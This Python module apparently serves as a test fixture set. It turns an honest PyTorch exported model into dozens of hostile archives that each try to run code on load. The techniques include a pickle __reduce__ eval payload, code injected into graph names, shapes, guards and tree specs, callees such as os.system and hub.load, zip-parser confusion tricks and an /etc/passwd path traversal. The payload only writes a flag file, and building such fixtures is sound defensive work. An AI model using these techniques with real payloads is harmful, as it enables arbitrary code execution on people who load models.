"""Model files that try to run code, made of an honest one. Each stands for its kind.

What they would run makes the file named FLAG in the working folder.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile

FLAG = "executed"
CODE = f"__import__('os').system('touch {FLAG}')"


class Payload:
    """Runs CODE when it is unpickled."""

    def __reduce__(self):
        return (eval, (CODE,))


def members_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(members, **options):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as archive:
        for name, held in members.items():
            archive.writestr(name, held, **options)
    return stream.getvalue()


def torch_pickle(value):
    import torch

    stream = io.BytesIO()
    torch.save(value, stream)
    return stream.getvalue()


# ---- the graph, which .pt2 files and program archives have alike


def graph_name(members):
    return next(n for n in members if n.endswith(("models/model.json", "program.json")))


def with_graph(change):
    """Returns an attack that changes the graph's document."""

    def attack(content):
        members = members_of(content)
        name = graph_name(members)
        document = json.loads(members[name])
        change(document)
        members[name] = json.dumps(document).encode()
        return zipped(members)

    return attack


def spec_of(kind, context, children=1):
    leaf = {"type": None, "context": None, "children_spec": []}
    return {"type": kind, "context": context, "children_spec": [leaf] * children}


ENUM = json.dumps([{"__enum__": True, "fqn": "evil_module:Kind", "name": "A"}])
LIBRARY = json.dumps([{"__enum__": True, "fqn": "ctypes:cdll", "name": "./evil.so"}])
FACTORY = {
    "default_factory_module": "evil_module",
    "default_factory_name": "Kind",
    "dict_context": ["a"],
}


def root_call(document):
    return document["graph_module"]["module_call_graph"][0]["signature"]


def out_spec(kind, context):
    def change(document):
        root_call(document)["out_spec"] = json.dumps([1, spec_of(kind, context)])

    return with_graph(change)


def nested_spec(document):
    inner = spec_of("builtins.dict", ENUM)
    outer = {"type": "builtins.tuple", "context": "null", "children_spec": [inner]}
    root_call(document)["out_spec"] = json.dumps([1, outer])


def in_spec(names):
    def change(document):
        args = {"type": "builtins.tuple", "context": "null", "children_spec": []}
        kwargs = spec_of("builtins.dict", json.dumps(names), len(names))
        call = {"type": "builtins.tuple", "context": "null", "children_spec": [args, kwargs]}
        root_call(document)["in_spec"] = json.dumps([1, call])
        root_call(document)["forward_arg_names"] = None

    return with_graph(change)


def quoted_key(document):
    """The key of a nested input comes into code between double quotes."""
    held = spec_of("builtins.dict", json.dumps([f'a"+{CODE}+"']))
    args = {"type": "builtins.tuple", "context": "null", "children_spec": [held]}
    kwargs = {"type": "builtins.dict", "context": "[]", "children_spec": []}
    call = {"type": "builtins.tuple", "context": "null", "children_spec": [args, kwargs]}
    root_call(document)["in_spec"] = json.dumps([1, call])


def submodule_spec(document):
    """torch resolves the structures of every module's call, not only of the model's."""
    calls = document["graph_module"]["module_call_graph"]
    signature = {**root_call(document), "out_spec": json.dumps([1, spec_of("builtins.dict", ENUM)])}
    calls.append({"fqn": "layer", "signature": signature})


def argument_names(document):
    root_call(document)["forward_arg_names"] = [f"input={CODE}"]


def value_name(document):
    text = json.dumps(document)
    document.update(json.loads(text.replace('"name": "input"', f'"name": "input={CODE}"')))


def first_node(document):
    return document["graph_module"]["graph"]["nodes"][0]


def node_name(document):
    first_node(document)["name"] = f"a={CODE}"


def first_tensor(document):
    return next(iter(document["graph_module"]["graph"]["tensor_values"].values()))


def dimension(document):
    first_tensor(document)["sizes"][0] = {"as_expr": {"expr_str": CODE, "hint": None}}


def stride(document):
    first_tensor(document)["strides"][0] = {"as_expr": {"expr_str": CODE, "hint": None}}


def symbol(document):
    document["graph_module"]["graph"]["sym_int_values"] = {
        "s": {"as_expr": {"expr_str": CODE, "hint": None}}
    }
    document["graph_module"]["graph"]["inputs"].append({"as_sym_int": {"as_name": "s"}})


def truth(document):
    document["graph_module"]["graph"]["sym_bool_values"] = {
        "s": {"as_expr": {"expr_str": CODE, "hint": None}}
    }
    first_node(document)["inputs"][0]["arg"] = {"as_sym_bool": {"as_name": "s"}}


def guards(document):
    document["guards_code"] = [CODE]


def ranges(document):
    document["range_constraints"] = {CODE: {"min_val": 1, "max_val": 2}}


def callee(target):
    def change(document):
        first_node(document)["target"] = target

    return with_graph(change)


def operator_argument(document):
    first_node(document)["inputs"][0]["arg"] = {"as_operator": "torch.hub.load"}


def object_argument(document):
    held = {"as_custom_obj": {"name": "obj", "class_fqn": "evil_module.Kind"}}
    first_node(document)["inputs"][0]["arg"] = held


def subgraph(document):
    """A graph within the graph has names of its own."""
    graph = json.loads(json.dumps(document["graph_module"]["graph"]))
    graph["nodes"][0]["name"] = f"a={CODE}"
    first_node(document)["target"] = "torch.ops.higher_order.wrap_with_set_grad_enabled"
    first_node(document)["inputs"][1]["arg"] = {"as_graph": {"name": "g", "graph": graph}}


def weight_path(document):
    """A weight's path that is no identifier comes into code between double quotes."""
    for spec in document["graph_module"]["signature"]["input_specs"]:
        for kind in ("parameter", "buffer"):
            if kind in spec:
                spec[kind][f"{kind}_name"] = f'a-"+{CODE}+"'
                return


def python_path(document):
    for spec in document["graph_module"]["signature"]["input_specs"]:
        for kind in ("parameter", "buffer"):
            if kind in spec:
                spec[kind][f"{kind}_name"] = "__class__.forward"
                return


def keyword_name(document):
    first_node(document)["target"] = "torch.ops.higher_order.cond"
    first_node(document)["inputs"][0].update({"name": f"a={CODE},b", "kind": 2})


def module_stack(document):
    first_node(document)["metadata"]["source_fn_stack"] = f"a,torch.hub.load;b,{CODE}"
    first_node(document)["metadata"]["torch_fn"] = CODE
    first_node(document)["metadata"]["custom"] = "[" * 100


GRAPH = {
    "enum in the results": out_spec("builtins.dict", ENUM),
    "library in the results": out_spec("builtins.dict", LIBRARY),
    "enum in an ordered dict": out_spec("collections.OrderedDict", ENUM),
    "enum in a deque": out_spec("collections.deque", ENUM),
    "factory of a defaultdict": out_spec("collections.defaultdict", FACTORY),
    "factory as text": out_spec("collections.defaultdict", json.dumps(FACTORY)),
    "class by its name": out_spec("evil_module.Kind", "null"),
    "enum in a tuple's context": out_spec("evil_module.Kind", ENUM),
    "named tuple by its name": out_spec("collections.namedtuple", '"evil_module.Kind"'),
    "enum deeper in the results": with_graph(nested_spec),
    "enum in a submodule's results": with_graph(submodule_spec),
    "enum among keywords": in_spec([json.loads(ENUM)[0]]),
    "code as a keyword": in_spec([f"x={CODE}"]),
    "code in a key": with_graph(quoted_key),
    "code as an argument's name": with_graph(argument_names),
    "code as a value's name": with_graph(value_name),
    "code as a node's name": with_graph(node_name),
    "code as a dimension": with_graph(dimension),
    "code as a stride": with_graph(stride),
    "code as a symbol": with_graph(symbol),
    "code as a truth value": with_graph(truth),
    "code as a guard": with_graph(guards),
    "code as a range": with_graph(ranges),
    "calls os.system": callee("torch.os.system"),
    "calls hub.load": callee("torch.hub.load"),
    "loads a library": callee("torch.ops.load_library"),
    "maps a file": callee("torch.ops.aten.from_file.default"),
    "reads a tensor's file": callee("torch.ops.debugprims.load_tensor.default"),
    "calls a dunder": callee("torch.ops.aten.__class__.default"),
    "makes a method caller": callee("_operator.methodcaller"),
    "calls an extension": callee("#evil:op"),
    "calls math": callee("math.__loader__"),
    "an operator as argument": with_graph(operator_argument),
    "an object as argument": with_graph(object_argument),
    "code in a subgraph": with_graph(subgraph),
    "code as a weight's path": with_graph(weight_path),
    "a weight on a class": with_graph(python_path),
    "code as a keyword of a callee": with_graph(keyword_name),
    "callees in metadata": with_graph(module_stack),
}


# ---- the container, of .pt2 files


def with_object(member, path, *, pickled=True, folder="constants"):
    """Returns an attack with a pickle as a constant: MEMBER is its file, PATH what is asked for."""

    def attack(content):
        members = members_of(content)
        root = next(iter(members)).partition("/")[0]
        config = f"{root}/data/{folder}/model_{folder}_config.json"
        document = json.loads(members[config])
        document["config"]["obj"] = {
            "path_name": path,
            "is_param": False,
            "use_pickle": pickled,
            "tensor_meta": None,
        }
        members[config] = json.dumps(document).encode()
        held = pickle.dumps(Payload()) if "opaque" in path else torch_pickle(Payload())
        members[f"{root}/data/{folder}/{member}"] = held
        return zipped(members)

    return attack


def with_member(name, make):
    def attack(content):
        members = members_of(content)
        root = next(iter(members)).partition("/")[0]
        members[f"{root}/{name}"] = make()
        return zipped(members)

    return attack


def old_format(content):
    """The form of torch 2.7, whose dimensions torch evaluates."""
    members = members_of(content)
    document = json.loads(members[graph_name(members)])
    dimension(document)
    return zipped(
        {
            "version": b"8.20",
            "serialized_exported_program.json": json.dumps(document).encode(),
            "serialized_state_dict.pt": torch_pickle(Payload()),
            "serialized_constants.pt": torch_pickle({}),
            "serialized_example_inputs.pt": torch_pickle(Payload()),
        }
    )


def two_directories(content):
    """torch's reader sees the first archive, Python's the second."""
    return content + old_format(content)


def two_directories_shared(content):
    """One end record, whose comment hides another."""
    first = zipped(members_of(content))
    second = old_format(content)
    return first[:-2] + struct.pack("<H", len(second)) + second


def a_prefix(content):
    return old_format(content) + content


def a_gap(content):
    """Bytes between the last file and the directory, offsets made to fit."""
    held = zipped(members_of(content))
    start = struct.unpack_from("<L", held, len(held) - 6)[0]
    hidden = old_format(content)
    end = bytearray(held[start:])
    struct.pack_into("<L", end, len(end) - 6, start + len(hidden))
    return held[:start] + hidden + bytes(end)


def other_local_name(content):
    """The directory says one name, the file's header another."""
    held = zipped(members_of(content))
    at = held.index(b"weight_0")
    return held[:at] + b"WEIGHT_0" + held[at + 8 :]


def twice(content):
    members = members_of(content)
    name = graph_name(members)
    hostile = members_of(GRAPH["code as a dimension"](content))[name]
    stream = io.BytesIO(content)
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(name, hostile)
    return stream.getvalue()


def twice_in_capitals(content):
    members = members_of(content)
    name = graph_name(members)
    hostile = members_of(GRAPH["code as a dimension"](content))[name]
    root = name.partition("/")[0]
    members[name.replace(f"{root}/models/model.json", f"{root}/MODELS/model.json")] = hostile
    return zipped(members)


def compressed(content):
    members = members_of(content)
    return zipped(members, compress_type=zipfile.ZIP_DEFLATED)


CONTAINER = {
    "object in capitals": with_object("OPAQUE_OBJ_0", "opaque_obj_0"),
    "object asked for in capitals": with_object("opaque_obj_0", "OPAQUE_OBJ_0"),
    "object of mixed case": with_object("Opaque_Obj_0", "opaque_obj_0"),
    "object": with_object("opaque_obj_0", "opaque_obj_0"),
    "script object": with_object("CUSTOM_OBJ_0", "custom_obj_0"),
    "object without saying so": with_object("opaque_obj_0", "opaque_obj_0", pickled=False),
    "constant as a pickle": with_object("tensor_9", "tensor_9"),
    "weight as a pickle": with_object("weight_9", "weight_9", folder="weights"),
    "weight outside": with_object("weight_9", "../../../../etc/passwd", folder="weights"),
    "weights of the older form": with_member(
        "data/weights/model.pt", lambda: torch_pickle(Payload())
    ),
    "weights in capitals": with_member("DATA/WEIGHTS/model.pt", lambda: torch_pickle(Payload())),
    "constants of the older form": with_member(
        "data/constants/model.pt", lambda: torch_pickle(Payload())
    ),
    "sample inputs": with_member("data/sample_inputs/model.pt", lambda: torch_pickle(Payload())),
    "sample inputs, a bare pickle": with_member(
        "data/sample_inputs/model.pt", lambda: pickle.dumps(Payload())
    ),
    "a compiled library": with_member("data/aotinductor/model/x.so", lambda: b"\x7fELF"),
    "a compiled library in capitals": with_member(
        "data/AOTInductor/model/x.so", lambda: b"\x7fELF"
    ),
    "another model": with_member("models/other.json", lambda: b"{}"),
    "the older format": old_format,
    "two directories": two_directories,
    "a directory in a comment": two_directories_shared,
    "an archive before it": a_prefix,
    "an archive in a gap": a_gap,
    "another name in the header": other_local_name,
    "a member twice": twice,
    "a member twice, once in capitals": twice_in_capitals,
    "compressed": compressed,
}
